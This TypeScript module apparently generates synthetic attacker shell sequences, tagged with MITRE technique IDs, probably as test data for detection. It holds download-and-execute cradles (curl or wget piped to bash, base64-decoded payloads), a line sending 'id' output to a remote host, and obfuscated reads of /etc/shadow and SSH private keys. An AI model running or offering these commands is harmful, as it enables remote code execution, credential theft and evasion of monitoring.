import { Buffer } from 'node:buffer';
import type { Attack } from '../scenario.ts';
import { behind, fetchTo, link, look, maybe, quote, remote, workFolder } from '../ways.ts';

/** A program is brought from elsewhere and run. */
const tool: Attack = {
  name: 'tool-brought',
  family: 'tool-brought',
  techniques: ['T1105', 'T1222.002', 'T1059.004'],
  as: 'either',
  needs: ['curl', 'wget', 'python3', 'perl'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const inFolder = draw.chance(0.4);
    const extension = draw.pick(['.sh', '.sh', '.py']);
    const name = `${draw.chance(0.3) ? '.' : ''}${draw.word()}${draw.chance(0.6) ? extension : ''}`;
    const path = inFolder ? `./${name}` : `${folder}/${name}`;
    const run = extension === '.py' ? `python3 ${path}` : draw.pick([path, `bash ${path}`, `sh ${path}`]);
    return [
      ...look(draw, draw.int(0, 3)),
      inFolder ? `mkdir -p ${folder} && cd ${folder}` : `mkdir -p ${folder}`,
      fetchTo(draw, link(draw, place, extension), path),
      ...maybe(
        draw,
        0.3,
        fetchTo(draw, link(draw, place, '.tar.gz'), `${folder}/${draw.word()}.tar.gz`),
        `tar xzf ${folder}/*.tar.gz -C ${folder}`,
        `ls -la ${folder}`,
      ),
      `chmod ${draw.pick(['+x', '755', '777', 'u+x'])} ${path}`,
      draw.chance(0.4) ? behind(draw, run) : `timeout 60 ${run}`,
      ...maybe(draw, 0.4, `sleep ${draw.int(5, 25)}`),
      ...maybe(draw, 0.4, `rm -f ${path}`),
      ...(inFolder ? ['cd'] : []),
      ...maybe(draw, 0.3, `rm -rf ${folder}`),
    ];
  },
};

/** A text from elsewhere goes straight into a shell: nothing is written. */
const cradle: Attack = {
  name: 'text-into-shell',
  family: 'text-into-shell',
  techniques: ['T1105', 'T1059.004', 'T1140'],
  as: 'either',
  needs: ['curl', 'wget', 'python3', 'openssl'],
  lines: (draw, place) => {
    const { host, port } = remote(draw, place);
    const from = link(draw, place, '.sh');
    const text = Buffer.from(`curl -s ${link(draw, place, '.sh')} | bash\n`).toString('base64');
    const ways = [
      `curl -fsSL ${from} | bash`,
      `curl -s ${from} | sh -s -- ${draw.word()}`,
      `wget -qO- ${from} | bash > /dev/null 2>&1`,
      `bash <(curl -s ${from})`,
      `bash -c "$(curl -fsSL ${from})"`,
      `source <(wget -qO- ${from})`,
      `echo ${text} | base64 -d | bash`,
      `base64 -d <<< ${text} | sh`,
      `echo ${text} | openssl enc -base64 -d -A | bash`,
      `python3 -c "import urllib.request as u; exec(u.urlopen('${link(draw, place, '.py')}').read())"`,
      `python3 -c ${quote(`import base64,os; os.system(base64.b64decode("${text}").decode())`)}`,
      `(curl -s ${from} || wget -qO- ${from}) | bash; id | curl -s -d @- http://${host}:${port}/ > /dev/null`,
      `eval "$(echo ${text} | base64 -d)"`,
      `curl -s ${from} | tee /dev/null | nohup bash > /dev/null 2>&1 &`,
    ];
    return [...look(draw, draw.int(1, 3)), ...draw.some(ways, draw.int(1, 3)), ...look(draw, draw.int(1, 2))];
  },
};

/** Commands that do not look like themselves. */
const obfuscated: Attack = {
  name: 'obfuscated-commands',
  family: 'obfuscated-commands',
  techniques: ['T1027', 'T1027.010', 'T1140', 'T1059.004'],
  as: 'either',
  needs: ['xxd', 'perl', 'python3', 'openssl', 'curl'],
  lines: (draw, place) => {
    const from = link(draw, place, '.sh');
    const what = (): string =>
      draw.pick([
        'id; uname -a',
        'cat /etc/passwd',
        'cat /etc/shadow',
        'ls -la /root /home',
        'ps aux',
        `curl -s ${from}`,
        `curl -s ${from} | sh`,
        'cat ~/.ssh/id_*',
        'who; last -n 3',
      ]);
    const hex = (text: string): string => Buffer.from(text).toString('hex');
    const octal = (text: string): string =>
      [...Buffer.from(text)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
    const turned = (text: string): string => [...text].reverse().join('');
    const ways = [
      `echo ${hex(what())} | xxd -r -p | bash`,
      `$(printf '${octal('id')}')`,
      `printf '${octal(what())}' | sh`,
      `cat$IFS/etc/passwd | tail$IFS-3`,
      `c\\a\\t /e?c/p?ss?d | head -4`,
      `a=ca;b=t;$a$b /etc/hosts`,
      `echo ${quote(turned(what()))} | rev | sh`,
      `eval $(echo ${Buffer.from(what()).toString('base64')} | base64 --decode)`,
      `perl -e ${quote(`system(pack("H*","${hex(what())}"))`)}`,
      `python3 -c ${quote(`import os,codecs; os.system(codecs.decode("${hex(what())}","hex").decode())`)}`,
      `tr 'a-zA-Z' 'n-za-mN-ZA-M' <<< ${quote(what().replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= c.charCodeAt(0) + 13 ? c.charCodeAt(0) + 13 : c.charCodeAt(0) - 13)))} | bash`,
      `z=$(echo ${Buffer.from(what()).toString('base64')} | openssl base64 -d); bash -c "$z"`,
      `/???/b??e64 -d <<< ${Buffer.from(`${what()}\n`).toString('base64')} | /???/sh`,
      `{cat,/etc/hostname}; {ls,-la,/home}`,
    ];
    return [...look(draw, draw.int(1, 2)), ...draw.some(ways, draw.int(2, 7)), ...look(draw, draw.int(0, 2))];
  },
};

export const TRANSFER: readonly Attack[] = [tool, cradle, obfuscated];
